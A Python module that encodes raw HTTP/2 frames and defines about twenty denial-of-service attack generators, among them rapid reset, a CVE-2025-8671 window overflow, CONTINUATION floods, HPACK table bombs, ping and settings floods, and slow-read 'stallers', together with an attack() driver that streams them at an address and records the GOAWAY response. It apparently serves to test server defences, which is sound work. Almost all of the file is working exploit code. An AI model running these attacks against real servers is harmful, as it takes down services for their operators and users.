"""Frames of HTTP/2 as bytes, and clients that send them without a rule."""

from __future__ import annotations

import itertools
import select
import socket
from collections.abc import Iterator

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"

DATA, HEADERS, PRIORITY, RST_STREAM, SETTINGS, PING, GOAWAY, WINDOW_UPDATE, CONTINUATION = (
    *range(5),
    *range(6, 10),
)
PRIORITY_UPDATE = 16
END_STREAM, END_HEADERS = 1, 4

GET, POST, HTTP, PATH, AUTHORITY = 0x82, 0x83, 0x86, 0x04, 0x01  # of the static table of HPACK


def frame(kind: int, flags: int, stream: int, payload: bytes = b"") -> bytes:
    head = len(payload).to_bytes(3, "big") + bytes([kind, flags])
    return head + stream.to_bytes(4, "big") + payload


def number(n: int) -> bytes:
    return n.to_bytes(4, "big")


def integer(n: int, bits: int, first: int = 0) -> bytes:
    """RFC 7541 §5.1."""
    most = (1 << bits) - 1
    if n < most:
        return bytes([first | n])
    out, n = bytes([first | most]), n - most
    while n >= 128:
        out, n = out + bytes([n % 128 + 128]), n // 128
    return out + bytes([n])


def text(value: bytes) -> bytes:
    return integer(len(value), 7) + value


def fields(path: bytes = b"/ok", method: int = GET) -> bytes:
    return bytes([method, HTTP, PATH]) + text(path) + bytes([AUTHORITY]) + text(b"a")


def request(stream: int, path: bytes = b"/ok") -> bytes:
    return frame(HEADERS, END_HEADERS | END_STREAM, stream, fields(path))


def upload(stream: int, path: bytes = b"/echo") -> bytes:
    """A request whose body is to follow."""
    return frame(HEADERS, END_HEADERS, stream, fields(path, POST))


def streams() -> Iterator[int]:
    return itertools.count(1, 2)


def window(by: int, stream: int = 0) -> bytes:
    return frame(WINDOW_UPDATE, 0, stream, number(by))


# Attacks: what each sends, piece by piece, until the server has had enough.


def rapid_reset() -> Iterator[bytes]:
    for n in streams():
        yield request(n) + frame(RST_STREAM, 0, n, number(8))


def reset_uploads() -> Iterator[bytes]:
    for n in streams():
        yield upload(n) + frame(RST_STREAM, 0, n, number(8))


def windows_that_overflow() -> Iterator[bytes]:
    """The server has to reset each stream itself: CVE-2025-8671."""
    for n in streams():
        yield request(n) + window(2**31 - 1, n)


def windows_of_nothing() -> Iterator[bytes]:
    for n in streams():
        yield request(n) + window(0, n)


def bodies_too_long() -> Iterator[bytes]:
    length = b"\x0f\x0d\x011"  # content-length: 1
    for n in streams():
        head = frame(HEADERS, END_HEADERS, n, fields(b"/echo", POST) + length)
        yield head + frame(DATA, 0, n, b"two")


def more_than_the_limit() -> Iterator[bytes]:
    """No stream of them ends."""
    for n in streams():
        yield upload(n)


def continuations() -> Iterator[bytes]:
    yield frame(HEADERS, END_STREAM, 1, fields())
    while True:
        yield frame(CONTINUATION, 0, 1, b"\0\1x\1y" * 1000)


def empty_continuations() -> Iterator[bytes]:
    yield frame(HEADERS, END_STREAM, 1, fields())
    while True:
        yield frame(CONTINUATION, 0, 1)


def bombs() -> Iterator[bytes]:
    """A field of 4,000 bytes in the table of HPACK, named by a byte each time."""
    one = b"\x40" + text(b"x") + text(b"y" * 4000)
    yield frame(HEADERS, END_HEADERS | END_STREAM, 1, fields() + one)
    for n in range(3, 2**31, 2):
        yield frame(HEADERS, END_HEADERS | END_STREAM, n, fields() + b"\xbe" * 16000)


def many_small_bombs() -> Iterator[bytes]:
    """Each of them is below the limit of a head: a request like others, but dear."""
    one = b"\x40" + text(b"x") + text(b"y" * 4000)
    yield frame(HEADERS, END_HEADERS | END_STREAM, 1, fields() + one)
    for n in range(3, 2**31, 2):
        yield frame(HEADERS, END_HEADERS | END_STREAM, n, fields() + b"\xbe" * 14)


def pings() -> Iterator[bytes]:
    while True:
        yield frame(PING, 0, 0, bytes(8))


def settings() -> Iterator[bytes]:
    while True:
        yield frame(SETTINGS, 0, 0, b"\0\4\0\0\xff\xff")


def table_sizes() -> Iterator[bytes]:
    while True:
        yield frame(SETTINGS, 0, 0, b"\0\1\0\0\0\0\0\1\0\0\x10\0")


def priorities() -> Iterator[bytes]:
    for n in streams():
        yield frame(PRIORITY, 0, n, number(0) + b"\1")


def priority_updates() -> Iterator[bytes]:
    for n in streams():
        yield frame(PRIORITY_UPDATE, 0, 0, number(n) + b"u=1")


def empty_data() -> Iterator[bytes]:
    yield upload(1)
    while True:
        yield frame(DATA, 0, 1)


def padding() -> Iterator[bytes]:
    """DATA of padding alone."""
    yield upload(1)
    while True:
        yield frame(DATA, 8, 1, bytes([255]) + bytes(255))


def small_data() -> Iterator[bytes]:
    """A byte a frame, as far as the windows go."""
    yield upload(1)
    while True:
        yield frame(DATA, 0, 1, b"x")


def tiny_windows() -> Iterator[bytes]:
    """A large answer, for which a byte of window comes at a time."""
    yield frame(SETTINGS, 0, 0, b"\0\4\0\0\0\1") + request(1, b"/big?1000000")
    while True:
        yield window(1, 1)


def unknown_frames() -> Iterator[bytes]:
    while True:
        yield frame(99, 0, 0, bytes(8))


ATTACKS = {
    attack.__name__: attack
    for attack in (
        rapid_reset,
        reset_uploads,
        windows_that_overflow,
        windows_of_nothing,
        bodies_too_long,
        more_than_the_limit,
        continuations,
        empty_continuations,
        bombs,
        many_small_bombs,
        pings,
        settings,
        table_sizes,
        priorities,
        priority_updates,
        empty_data,
        padding,
        small_data,
        tiny_windows,
        unknown_frames,
    )
}

# Clients that stall: what each sends at once, and then every now and then.

BEGUN = PREFACE + frame(SETTINGS, 0, 0)
LONG = number(16000)[1:]  # the length of a frame that is to come

STALLERS = {
    "prefaces": (PREFACE[:5], b""),
    "settings": (PREFACE + LONG + bytes([SETTINGS]), b"\0"),
    "heads": (BEGUN + LONG + bytes([HEADERS, END_STREAM]) + number(1) + fields(), b"\0"),
    "continuations": (
        BEGUN + frame(HEADERS, END_STREAM, 1, fields()),
        frame(CONTINUATION, 0, 1, b"\0\1x\1y"),
    ),
    "bodies": (BEGUN + upload(1), frame(DATA, 0, 1, b"x")),
    "windows": (
        PREFACE + frame(SETTINGS, 0, 0, b"\0\4\0\0\0\0") + request(1, b"/big?1000000"),
        window(1, 1),
    ),
    "sockets": (
        PREFACE
        + frame(SETTINGS, 0, 0, b"\0\4\x7f\xff\xff\xff")
        + window(1 << 30)
        + request(1, b"/big?8000000"),
        b"",
    ),
}

PIECE = 16 * 1024


def connect(address: tuple[str, int]) -> socket.socket:
    sock = socket.create_connection(address, 10)
    sock.sendall(PREFACE + frame(SETTINGS, 0, 0))
    return sock


def split(data: bytes) -> Iterator[tuple[int, int, int]]:
    """The frames of an answer: type, flags and stream of each."""
    while len(data) >= 9:
        yield data[3], data[4], int.from_bytes(data[5:9], "big")
        data = data[9 + int.from_bytes(data[:3], "big") :]


class Goaway:
    """Reads frames as they come, and keeps the code of the last GOAWAY. None: there was none."""

    def __init__(self) -> None:
        self.code: int | None = None
        self.rest = b""

    def feed(self, data: bytes) -> None:
        data, at = self.rest + data, 0
        while len(data) - at >= 9:
            end = at + 9 + int.from_bytes(data[at : at + 3], "big")
            if len(data) < end:
                break
            if data[at + 3] == GOAWAY:
                self.code = int.from_bytes(data[at + 13 : at + 17], "big")
            at = end
        self.rest = data[at:]


def take(sock: socket.socket) -> bytes | None:
    """What has come; None: the server has closed."""
    try:
        return sock.recv(1 << 20) or None
    except BlockingIOError:
        return b""
    except ConnectionError:
        return None


def give(sock: socket.socket, data: bytes) -> bytes:
    """What the socket does not take of it."""
    try:
        return data[sock.send(data) :]
    except BlockingIOError:
        return data


def attack(address: tuple[str, int], pieces: Iterator[bytes], most: int) -> int | None:
    """Send up to so many bytes over one connection, and read what comes.

    Returns the code of GOAWAY, which ends it. None: there was none.
    """
    waiting, goaway, made = b"", Goaway(), 0
    with connect(address) as sock:
        sock.setblocking(False)
        while goaway.code is None and made < most:
            while len(waiting) < PIECE:
                waiting += next(pieces)
            left = len(waiting)
            try:
                waiting = give(sock, waiting)
            except OSError:
                break
            made += left - len(waiting)
            if (data := take(sock)) is None:
                break
            goaway.feed(data)
            if left == len(waiting):
                select.select([sock], [sock], [], 1)
        if made < most:
            read_on(sock, goaway)
        return goaway.code


def read_on(sock: socket.socket, goaway: Goaway) -> None:
    """Until the server ends the connection."""
    sock.settimeout(5)
    try:
        while goaway.code is None and (data := sock.recv(1 << 20)):
            goaway.feed(data)
    except OSError:
        pass
